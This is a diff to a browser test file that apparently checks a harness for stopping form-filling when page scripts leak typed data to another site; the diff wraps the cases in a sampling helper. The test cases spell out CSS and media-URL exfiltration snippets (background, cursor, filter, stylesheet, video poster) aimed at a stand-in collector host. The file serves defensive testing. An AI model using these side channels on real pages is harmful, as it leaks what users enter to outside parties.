@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { oneChromium } from '../../harness/browsers/one-chromium';
 import { formBundleForPage } from '../../harness/browsers/page-bundle';
+import { representatives } from '../../harness/whole';
 
 const entry = new URL('../../attacks/forms/trap-entry.ts', import.meta.url).pathname;
 let script = '';
@@ -50,16 +51,21 @@ async function filled(act: string): Promise<{ stopped?: { why: string }; calls?:
   return state;
 }
 
-it.each([
-  ['a background', "m.style.backgroundImage = 'url(' + at + ')'"],
-  ['a pointer', "document.body.style.cursor = 'url(' + at + '), auto'"],
-  ['a filter', "m.style.filter = 'url(' + at + '#f)'"],
-  [
-    'a rule of a sheet',
-    "document.head.append(Object.assign(document.createElement('style'), { textContent: '#m{background:url(\"' + at + '\")}' }))",
-  ],
-  ['a poster', "document.body.append(Object.assign(document.createElement('video'), { poster: at }))"],
-])('ends the filling where %s asks another site with what was written', async (_, act) => {
+it.each(
+  representatives(
+    [
+      ['a background', "m.style.backgroundImage = 'url(' + at + ')'"],
+      ['a pointer', "document.body.style.cursor = 'url(' + at + '), auto'"],
+      ['a filter', "m.style.filter = 'url(' + at + '#f)'"],
+      [
+        'a rule of a sheet',
+        "document.head.append(Object.assign(document.createElement('style'), { textContent: '#m{background:url(\"' + at + '\")}' }))",
+      ],
+      ['a poster', "document.body.append(Object.assign(document.createElement('video'), { poster: at }))"],
+    ],
+    5,
+  ),
+)('ends the filling where %s asks another site with what was written', async (_, act) => {
   expect(await filled(act)).toMatchObject({ stopped: { why: 'called' }, calls: ['collect.example'] });
 });
 
